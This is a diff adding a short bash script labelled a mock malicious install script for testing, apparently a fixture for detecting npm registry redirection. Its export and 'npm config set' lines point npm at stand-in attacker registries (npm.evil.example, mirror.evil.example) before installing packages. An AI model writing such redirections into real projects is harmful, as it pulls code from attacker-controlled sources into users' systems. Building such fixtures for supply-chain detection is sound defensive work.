@@ -0,0 +1,8 @@
+#!/bin/bash
+# MOCK malicious install script - FOR TESTING ONLY
+# Points npm at an attacker registry before installing
+
+export npm_config_registry=https://npm.evil.example/
+npm config set registry "https://mirror.evil.example/npm/"
+npm install left-pad --registry=https://registry.npmjs.org/
+npm install --registry https://npm.corp.example/ internal-lib